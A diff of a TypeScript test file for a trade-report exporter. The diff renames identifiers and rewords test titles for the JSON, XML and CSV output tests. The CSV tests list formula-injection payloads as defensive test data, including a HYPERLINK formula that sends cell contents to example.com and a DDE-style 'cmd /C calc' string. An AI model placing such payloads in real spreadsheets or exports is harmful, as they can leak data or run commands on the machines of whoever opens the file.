@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { count, day, money, price, quantity } from '#kit/fields.ts'
 import { envelopeOf, hashedText, type ReportHead, reportFileName } from '#trade/authority/envelope.ts'
-import { canonicalTemplate, outsideRow, type TemplateField } from '#trade/authority/outside-rows.ts'
+import { canonicalTemplate, externalRow, type TemplateField } from '#trade/authority/external-rows.ts'
 import { csvOf, csvText, jsonOf, xmlOf } from '#trade/authority/report-text.ts'
 import type { ReportedLine } from '#trade/authority/reported-line.ts'
 
@@ -28,20 +28,20 @@ const cases: [title: string, of: Partial<TemplateField>, value: string | number 
   ['a day without dashes', { field: 'day', form: 'Day as YYYYMMDD' }, '20260305'],
   ['a day with slashes', { field: 'day', form: 'Day as DD/MM/YYYY' }, '05/03/2026'],
   ['a code', { field: 'form', codes: 'Crushed=02\nRaw = 01' }, '01'],
-  ['a code with the sign in it', { field: 'form', codes: 'Raw=a=b' }, 'a=b'],
-  ['a value no code is given for', { field: 'form', codes: 'Crushed=02' }, 'Raw'],
-  ['a value whose line of codes gives none', { field: 'form', codes: 'Raw\n=03' }, 'Raw'],
-  ['a value whose code is nothing', { field: 'form', codes: 'Raw=' }, ''],
+  ['a code that contains an equals sign', { field: 'form', codes: 'Raw=a=b' }, 'a=b'],
+  ['a value without a code', { field: 'form', codes: 'Crushed=02' }, 'Raw'],
+  ['a value whose line in the codes is incomplete', { field: 'form', codes: 'Raw\n=03' }, 'Raw'],
+  ['a value with an empty code', { field: 'form', codes: 'Raw=' }, ''],
   ['a constant', { constant: 'SA' }, 'SA'],
   ['a constant where there is no value', { field: 'note', constant: '-' }, '-'],
   ['nothing', { field: 'note', form: 'Riyals' }, null],
   ['a field the line does not have', { field: 'other' }, null],
 ]
 for (const [title, of, value] of cases)
-  test(title, () => assert.deepEqual(outsideRow(fields, [field(of)]), [['x', value]]))
+  test(title, () => assert.deepEqual(externalRow(fields, [field(of)]), [['x', value]]))
 
 test('without a template every field has its own name, in the unit of the trade', () => {
-  const told = {
+  const fieldsOfReport = {
     date: day('Date'),
     quantity: quantity('Quantity'),
     net: money('Net'),
@@ -49,7 +49,7 @@ test('without a template every field has its own name, in the unit of the trade'
     bags: count('Bags'),
   }
   assert.deepEqual(
-    canonicalTemplate(told).map(({ field, name, form }) => `${field} ${name}: ${form}`),
+    canonicalTemplate(fieldsOfReport).map(({ field, name, form }) => `${field} ${name}: ${form}`),
     [
       ...['date date: As it is', 'quantity quantity: Metric tons', 'net net: Riyals', 'unitPrice unitPrice: Price'],
       'bags bags: As it is',
@@ -73,31 +73,31 @@ const template = [
 ]
 const envelope = envelopeOf(head, [line(12_345), line(55, true), line(-345)], template)
 
-test('totals count what is told and what is skipped', () =>
+test('totals count reported and skipped lines', () =>
   assert.deepEqual(envelope.totals, { rows: 2, quantityMt: '12.000', skippedRows: 1, skippedMt: '0.055' }))
 
-test('JSON has the envelope, and nests at dots', () => {
-  const said = JSON.parse(jsonOf(envelope, 'sha256:1'))
-  assert.deepEqual(Object.keys(said), [
+test('JSON has the envelope, and dots in names nest', () => {
+  const report = JSON.parse(jsonOf(envelope, 'sha256:1'))
+  assert.deepEqual(Object.keys(report), [
     ...['schema', 'reportType', 'reportId', 'sequence', 'importer', 'period', 'generatedAt', 'revision', 'replaces'],
     ...['commodity', 'unit', 'rows', 'totals', 'hash'],
   ])
-  assert.deepEqual(said.rows[1], {
+  assert.deepEqual(report.rows[1], {
     quantityMt: '-0.345',
     customer: { name: 'Al "Noor", Ltd\nJeddah', country: 'SA' },
   })
-  assert.deepEqual([said.reportType, said.replaces, said.hash], ['STOCK_TRANSFER', '11', 'sha256:1'])
+  assert.deepEqual([report.reportType, report.replaces, report.hash], ['STOCK_TRANSFER', '11', 'sha256:1'])
 })
 
-test('XML escapes, and an outside name becomes an element', () => {
+test('XML is escaped, and an external name becomes an element', () => {
   const odd = envelopeOf(head, [line(1, false, '<a>&\u0001')], [field({ field: 'name', name: '1 اسم/x' })])
-  const said = xmlOf(odd, 'h')
-  assert.match(said, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<report><schema>gfsa.report\/1<\/schema>/)
-  assert.match(said, /<nameEn>A &amp; B<\/nameEn><unifiedNumber><\/unifiedNumber>/)
-  assert.match(said, /<rows><row><_1_اسم_x>&lt;a&gt;&amp;<\/_1_اسم_x><\/row><\/rows>/)
+  const report = xmlOf(odd, 'h')
+  assert.match(report, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<report><schema>gfsa.report\/1<\/schema>/)
+  assert.match(report, /<nameEn>A &amp; B<\/nameEn><unifiedNumber><\/unifiedNumber>/)
+  assert.match(report, /<rows><row><_1_اسم_x>&lt;a&gt;&amp;<\/_1_اسم_x><\/row><\/rows>/)
 })
 
-test('CSV has the mark, CR LF, and quotes what needs it', () => {
+test('CSV has a byte order mark and CR LF, and quotes where needed', () => {
   const names = template.map(({ name }) => name)
   assert.equal(
     csvOf(envelope, names),
@@ -105,7 +105,7 @@ test('CSV has the mark, CR LF, and quotes what needs it', () => {
   )
 })
 
-test('the hash is of what is said, not of when', () => {
+test('the hash covers the content, not the time of generation', () => {
   const later = envelopeOf({ ...head, generatedAt: '2027-01-01T00:00:00Z' }, [line(1)], template)
   const now = envelopeOf(head, [line(1)], template)
   assert.equal(hashedText(later), hashedText(now))
@@ -119,7 +119,7 @@ const words: [title: string, value: string | number, cell: string][] = [
   ['a formula', '=HYPERLINK("http://example.com/?"&A1)', `"'=HYPERLINK(""http://example.com/?""&A1)"`],
   ['a formula behind a sign', "+cmd|' /C calc'!A1", `'+cmd|' /C calc'!A1`],
   ['one behind a minus', '-2+3+A1', `'-2+3+A1`],
-  ['the old beginning of a formula', '@SUM(A1)', `'@SUM(A1)`],
+  ['a formula that begins with @', '@SUM(A1)', `'@SUM(A1)`],
   ['one behind a tab', '\t=1+1', `'\t=1+1`],
   ['an amount below zero', '-1.250', '-1.250'],
   ['a number below zero', -3, '-3'],
@@ -127,6 +127,6 @@ const words: [title: string, value: string | number, cell: string][] = [
   ['a dash', '-', '-'],
   ['a name', 'Al = Sahel', 'Al = Sahel'],
 ]
-for (const [title, value, told] of words)
-  test(`in a file of lines ${title} is not computed and numbers stay`, () =>
-    assert.equal(csvText([[value]]), `\ufeff${told}\r\n`))
+for (const [title, value, expected] of words)
+  test(`in a CSV file ${title} is not computed and numbers stay`, () =>
+    assert.equal(csvText([[value]]), `\ufeff${expected}\r\n`))
